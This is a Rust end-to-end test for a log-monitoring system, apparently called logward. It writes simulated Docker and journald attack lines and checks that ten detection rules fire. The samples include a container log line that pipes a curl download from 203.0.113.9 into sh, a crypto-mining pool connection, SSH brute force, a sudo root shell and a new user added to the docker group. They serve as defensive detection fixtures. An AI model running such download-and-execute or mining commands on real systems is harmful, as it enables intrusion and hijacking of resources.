//! Every attack class end to end: Docker json-file lines, a container's posture and
//! journal entries flow through the real collector (json-file and journald sources) and
//! the real server (extraction, the built-in pack), and the expected detections appear
//! in `/api/v1/detections` within 2 s. Needs systemd-journal-remote and journalctl.

use std::collections::BTreeSet;
use std::time::{Duration, Instant};

use logward_e2e::journal::{Entry, available, write_journal};
use logward_e2e::{DockerLine, FakeContainer, Proc, Server, docker_time};

const WAIT: Duration = Duration::from_secs(30);

fn journal_line(t_us: i64, identifier: &str, message: &str) -> Entry {
    let transport = if identifier == "kernel" {
        "kernel"
    } else {
        "syslog"
    };
    Entry::new(t_us, message)
        .field("SYSLOG_IDENTIFIER", identifier)
        .field("_TRANSPORT", transport)
        .field("PRIORITY", "5")
}

fn detected_titles(server: &Server) -> BTreeSet<String> {
    let (status, body) = server
        .get("/api/v1/detections?limit=1000")
        .expect("detections");
    assert_eq!(status, 200, "{body}");
    body["detections"]
        .as_array()
        .map(|list| {
            list.iter()
                .filter_map(|d| d["rule_title"].as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn every_attack_class_is_detected_from_real_collection() {
    if !available("every_attack_class_is_detected_from_real_collection") {
        return;
    }
    let tmp = tempfile::tempdir().expect("tempdir");
    let docker_dir = tmp.path().join("containers");
    let journal_dir = tmp.path().join("journal");
    std::fs::create_dir_all(&journal_dir).expect("journal dir");
    let server = Server::start(&tmp.path().join("data"), &[]).expect("server starts");

    // A privileged container (its posture alone is an attack class).
    let id = format!("{:064x}", 0xa77ac_u64);
    let web = FakeContainer::create(
        &docker_dir,
        &id,
        "web",
        "nginx:1.25",
        &[("app", "frontend")],
    )
    .expect("container");
    let fixture = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../collector/tests/fixtures/hostconfig-privileged.json");
    std::fs::copy(&fixture, web.dir.join("hostconfig.json")).expect("hostconfig");
    let t0 = docker_time(1_714_557_600, 0);
    web.append(&[DockerLine {
        log: "nginx started",
        stream: "stdout",
        time: &t0,
        partial: false,
    }])
    .expect("append");

    let config = tmp.path().join("collector.toml");
    std::fs::write(
        &config,
        "journal_start = \"beginning\"\nbatch_linger_ms = 20\n",
    )
    .expect("config");
    let args: Vec<String> = [
        "--server",
        &server.grpc_url(),
        "--docker-dir",
        &docker_dir.display().to_string(),
        "--journal-dir",
        &journal_dir.display().to_string(),
        "--state-dir",
        &tmp.path().join("state").display().to_string(),
        "--hostname",
        "attacked",
        "--config",
        &config.display().to_string(),
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    let _collector = Proc::spawn("logward-collector", &args, &[]).expect("collector starts");
    server
        .wait_for_total("container.name:web", 1, WAIT)
        .expect("collector is shipping");

    // The attacks, written while everything runs.
    let written = Instant::now();
    let now_us = i64::try_from(
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map_or(0, |d| d.as_micros()),
    )
    .unwrap_or(0);
    let mut entries: Vec<Entry> = (0..12)
        .map(|i| {
            journal_line(
                now_us + i,
                "sshd",
                &format!(
                    "Failed password for invalid user admin from 203.0.113.66 port {} ssh2",
                    40000 + i
                ),
            )
        })
        .collect();
    let host_lines = [
        (
            "sshd",
            "Accepted password for root from 198.51.100.7 port 51000 ssh2",
        ),
        (
            "sudo",
            "   alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/ls",
        ),
        (
            "sudo",
            "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
        ),
        (
            "useradd",
            "new user: name=eve, UID=1002, GID=1002, home=/home/eve, shell=/bin/bash, from=/dev/pts/0",
        ),
        ("usermod", "add 'eve' to group 'docker'"),
        (
            "kernel",
            "Out of memory: Killed process 4242 (java) total-vm:8123456kB, anon-rss:4012345kB, file-rss:0kB, shmem-rss:0kB, UID:1000 pgtables:9000kB oom_score_adj:0",
        ),
    ];
    for (i, (ident, msg)) in host_lines.iter().enumerate() {
        entries.push(journal_line(now_us + 100 + i as i64, ident, msg));
    }
    write_journal(&journal_dir, "attacks", &entries).expect("journal file");
    let t1 = docker_time(1_714_557_601, 0);
    web.append(&[
        DockerLine {
            log: "+ curl -fsSL http://203.0.113.9/x.sh | sh",
            stream: "stdout",
            time: &t1,
            partial: false,
        },
        DockerLine {
            log: "connecting to stratum+tcp://pool.example.net:3333 as worker1",
            stream: "stdout",
            time: &t1,
            partial: false,
        },
    ])
    .expect("append");

    let expected: BTreeSet<String> = [
        "SSH brute force from one address",
        "Root login over SSH",
        "Sudo authentication failure",
        "Interactive shell through sudo",
        "Local user or group created",
        "User added to a privileged group",
        "Process killed by the kernel OOM killer",
        "Download piped into a shell in container output",
        "Crypto-miner indicator in container output",
        "Privileged container",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    let deadline = Instant::now() + WAIT;
    let fired = loop {
        let fired = detected_titles(&server);
        if expected.is_subset(&fired) || Instant::now() > deadline {
            break fired;
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    let elapsed = written.elapsed();
    let missing: Vec<&String> = expected.difference(&fired).collect();
    assert!(missing.is_empty(), "missing {missing:?}; fired {fired:?}");
    // Latency is the benchmark harness's (W5) to measure; here only the condition,
    // waited for up to the generous `WAIT`.
    eprintln!(
        "all {} attack classes detected {:.0} ms after they were written",
        expected.len(),
        elapsed.as_secs_f64() * 1000.0
    );
}
